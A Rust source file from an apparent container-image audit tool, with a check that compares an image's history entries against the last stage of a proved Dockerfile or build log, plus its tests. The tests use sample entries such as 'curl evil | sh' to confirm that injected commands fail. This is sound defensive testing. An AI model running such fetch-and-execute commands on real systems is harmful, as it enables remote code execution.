//! `image-history`: the image's history follows the Dockerfile's instructions.

use crate::base::words::counted;
use std::collections::BTreeSet;

use super::image_evidence::{image_of, steps};
use super::outcome::Outcome;
use super::{Check, Expected, Run, image_config};
use crate::base::budget::{Budget, Work};
use crate::base::strict_json;
use crate::image::History;
use crate::judge::evidence::{Evidence, Known, NoInstructions};
use crate::judge::finding::{Group, Level, MissingEvidence, Reason};
use crate::judge::policy::Policy;

pub(super) static CHECK: Check = Check {
    name: "image-history",
    group: Group::Image,
    level: Level::Warn,
    says: "the image's history ends with the instructions of the last stage in the Dockerfile or the log (keywords were compared; for RUN, also the command)",
    explanation: "Compares the last entries of the history in the image's configuration with the instructions of the last stage of the proved \
Dockerfile (expect.dockerfile, or Dockerfile at the top). If the source proves no Dockerfile, the check uses the instructions that the builder \
printed into the signed log, and states that. BuildKit's log does not contain them; there is then no evidence. Keywords must agree one by one, and the \
commands of RUN word by word. A history writes COPY, ADD and ENV differently, so their arguments are not compared. The history is text that a \
builder wrote: it proves nothing about the layers. Times in it are shown as facts and not checked.\n\nWhen it fails: the build may have used a \
different Dockerfile of the repository; specify it in expect.dockerfile.",
    known: Known::Given,
    expected: Expected::Nothing,
    links: &[],
    controls: &[],
    missing_evidence: MissingEvidence::RejectsWithGroup,
    run: Run::Function(run),
};

fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
    let image = match image_of(evidence) {
        Ok(image) => image,
        Err(outcome) => return outcome,
    };
    let Some(config) = &image.config else {
        return Outcome::caused_by(&image_config::CHECK, "the image's configuration cannot be read");
    };
    let shell = config.settings.get("Shell").and_then(|shell| words_of(shell));
    let not_proved = match evidence.dockerfile(policy.expect.dockerfile.as_deref()) {
        Ok(instructions) => {
            let texts: Vec<&str> = instructions.iter().map(|instruction| instruction.text.as_str()).collect();
            let texts = last_stage(&texts);
            return compare(texts, &config.history, shell, "the proved Dockerfile", evidence.budget);
        }
        Err(NoInstructions::NotProved(fault) | NoInstructions::NoFile(fault) | NoInstructions::NotRead(fault)) => fault,
    };
    match evidence.log().map(steps) {
        Some(Ok(printed)) if !printed.is_empty() => {
            compare(last_stage(&printed), &config.history, shell, "the log", evidence.budget)
                .detail(format!("compared with the log only, not with a proved Dockerfile: {not_proved}"))
        }
        Some(Err(message)) => Outcome::unknown(message),
        _ => {
            Outcome::not_run(Reason::NoEvidence, "no Dockerfile is proved, and the log does not show its instructions")
                .detail(not_proved)
        }
    }
}

/// The Dockerfile's instructions after the last FROM.
fn last_stage<'i, 't>(instructions: &'i [&'t str]) -> &'i [&'t str] {
    let last_from = instructions.iter().rposition(|instruction| keyword(instruction) == "FROM");
    instructions.get(last_from.map_or(0, |at| at + 1)..).unwrap_or_default()
}

/// `shell` is the shell in the image's configuration, if the configuration specifies one.
fn compare(
    instructions: &[&str],
    history: &[History],
    shell: Option<String>,
    witness: &str,
    budget: &Budget,
) -> Outcome {
    let own = instructions.iter().filter(|instruction| keyword(instruction) == "SHELL");
    let own = own.filter_map(|instruction| words_of(instruction.split_once(char::is_whitespace)?.1));
    let shells: BTreeSet<String> = ["/bin/sh -c".to_owned()].into_iter().chain(own).chain(shell).collect();
    let shells = Shells { letters: shells.iter().map(|shell| shell.len() as u64 + 1).sum(), shells };
    let Some(inherited) = history.len().checked_sub(instructions.len()) else {
        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}"))
            .sides(format!("at least {}", counted(instructions.len(), "entry")), counted(history.len(), "entry"));
    };
    for (at, (instruction, entry)) in instructions.iter().zip(history.iter().skip(inherited)).enumerate() {
        let (found_keyword, found) = read(&entry.created_by);
        let expected = keyword(instruction);
        let differs =
            expected != found_keyword || (expected == "RUN" && !same_command(instruction, &found, &shells, budget));
        if differs {
            return Outcome::fail(format!(
                "entry {} of the last stage of {witness} is a different instruction",
                at + 1
            ))
            .sides(*instruction, &entry.created_by);
        }
    }
    Outcome::pass(format!(
        "the history ends with the {} of the last stage of {witness}: keywords were compared and, for RUN, also commands",
        counted(instructions.len(), "instruction")
    ))
    .detail(format!("not compared: {} before these instructions", counted(inherited, "entry")))
}

/// The shells that may precede a command, and their total length.
struct Shells {
    shells: BTreeSet<String>,
    letters: u64,
}

fn keyword(instruction: &str) -> String {
    instruction.split_whitespace().next().unwrap_or_default().to_ascii_uppercase()
}

/// Keyword and text of an entry: `/bin/sh -c #(nop)  CMD ["x"]` and `/bin/sh -c make` (classic builder, with `|1 A=b ` before it if
/// build arguments are set), `RUN /bin/sh -c make # buildkit`.
fn read(created_by: &str) -> (String, String) {
    let text = created_by.trim_end().strip_suffix("# buildkit").unwrap_or(created_by);
    if let Some((_, rest)) = text.split_once("#(nop)") {
        return (keyword(rest), collapsed(rest));
    }
    let first = keyword(text);
    let is_instruction =
        !first.is_empty() && first.bytes().all(|byte| byte.is_ascii_uppercase()) && text.starts_with(&first);
    if is_instruction && first != "RUN" {
        return (first, collapsed(text));
    }
    ("RUN".into(), collapsed(text))
}

/// Whether the entry's command is the instruction's command. Only a shell, and build arguments before the shell, may precede the command: `evil
/// && make` also ends with `make`.
fn same_command(instruction: &str, found: &str, shells: &Shells, budget: &Budget) -> bool {
    let text = instruction.split_once(char::is_whitespace).map_or("", |(_, rest)| rest).trim();
    // Flags (`--mount=…`) are for the builder and are not part of the command.
    let command: Vec<&str> = text.split_whitespace().skip_while(|word| word.starts_with("--")).collect();
    let command = command.join(" ");
    let is_head = |head: &str| matches!(head, "" | "RUN") || head.starts_with('|');
    if let Some(command) = words_of(&command) {
        return found.strip_suffix(command.as_str()).is_some_and(|head| is_head(head.trim_end()));
    }
    // The entry is searched for each shell.
    let letters = (found.len() as u64).saturating_mul(shells.shells.len() as u64).saturating_add(shells.letters);
    if budget.spend(Work::Bytes(letters), "the image's history").is_err() {
        return false;
    }
    shells.shells.iter().any(|shell| {
        let parts = found.split_once(shell.as_str());
        parts.is_some_and(|(head, rest)| is_head(head.trim_end()) && rest.strip_prefix(' ') == Some(command.as_str()))
    })
}

/// The arguments of the exec form, `["a", "b"]`, separated by spaces as in a history.
fn words_of(text: &str) -> Option<String> {
    let parsed = strict_json::parse(text.as_bytes()).ok()?;
    let words: Option<Vec<&str>> = parsed.as_array()?.iter().map(|word| word.as_str()).collect();
    Some(collapsed(&words?.join(" ")))
}

fn collapsed(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn budget() -> Budget {
        Budget::of_audit(0, &crate::base::limits::Limits::default())
    }

    fn entry(created_by: &str) -> History {
        History { created_by: created_by.into(), created: None, makes_layer: true }
    }

    #[test]
    fn histories_of_both_builders_are_read() {
        for (instruction, entry) in [
            ("RUN make  all", "/bin/sh -c make all"),
            ("RUN make all", "|1 VERSION=2 /bin/sh -c make all"),
            ("run make all", "RUN /bin/sh -c make all # buildkit"),
            ("RUN --mount=type=cache,target=/x make all", "RUN /bin/sh -c make all # buildkit"),
            ("RUN [\"/bin/make\", \"all\"]", "/bin/make all"),
            ("CMD [\"x\"]", "/bin/sh -c #(nop)  CMD [\"x\"]"),
            ("CMD [\"x\"]", "CMD [\"x\"]"),
            ("COPY a b", "/bin/sh -c #(nop) COPY file:0123 in b"),
            ("COPY a b", "COPY a b # buildkit"),
            ("RUN make all", "/bin/bash -o pipefail -c make all"),
        ] {
            let shell = Some("/bin/bash -o pipefail -c".to_owned());
            let outcome = compare(&[instruction], &[self::entry("base"), self::entry(entry)], shell, "x", &budget());
            assert_eq!(outcome.status, crate::judge::finding::Status::Pass, "{instruction} {entry}: {outcome:?}");
        }
    }

    #[test]
    fn a_different_command_order_or_count_fails() {
        for (instructions, history) in [
            (&["RUN make"][..], &["/bin/sh -c make evil"][..]),
            (&["RUN make"], &["/bin/sh -c remake"]),
            (&["RUN make", "CMD x"], &["/bin/sh -c #(nop)  CMD x", "/bin/sh -c make"]),
            (&["RUN make", "RUN test"], &["/bin/sh -c make"]),
            (&["COPY a b"], &["/bin/sh -c curl evil | sh"]),
            (&["RUN make"], &["/bin/sh -c curl evil | sh && make"]),
            (&["RUN make"], &["|1 A=b /bin/sh -c curl evil | sh && /bin/sh -c make"]),
            (&["RUN [\"/bin/make\"]"], &["/bin/sh -c evil /bin/make"]),
            (&["RUN make"], &["/bin/evil -c make"]),
        ] {
            let history: Vec<History> = history.iter().map(|text| entry(text)).collect();
            assert_eq!(
                compare(instructions, &history, None, "x", &budget()).status,
                crate::judge::finding::Status::Fail,
                "{instructions:?}"
            );
        }
    }

    #[test]
    fn searching_for_shells_is_charged_to_the_budget() {
        let shells: Vec<String> = (0..100).map(|number| format!("SHELL [\"/bin/s{number}\"]")).collect();
        let runs: Vec<String> = (0..100).map(|number| format!("RUN {}{number}", "m".repeat(100))).collect();
        let instructions: Vec<&str> = shells.iter().chain(&runs).map(String::as_str).collect();
        let spelled = |text: &String| format!("/bin/sh -c {}", text.strip_prefix("RUN ").unwrap_or_default());
        let history: Vec<History> =
            shells.iter().map(|text| entry(text)).chain(runs.iter().map(|text| entry(&spelled(text)))).collect();
        let status = |units: u64| {
            let limits =
                crate::base::limits::Limits { work_base_units: units, ..crate::base::limits::Limits::default() };
            let budget = Budget::of_audit(0, &limits);
            let outcome = compare(&instructions, &history, None, "x", &budget);
            (outcome.status == crate::judge::finding::Status::Pass, budget.check("x").is_ok())
        };
        // 100 entries of 113 bytes are each searched for 101 shells.
        assert_eq!(status(2_000_000), (true, true));
        assert_eq!(status(1_000_000), (false, false));
    }
}
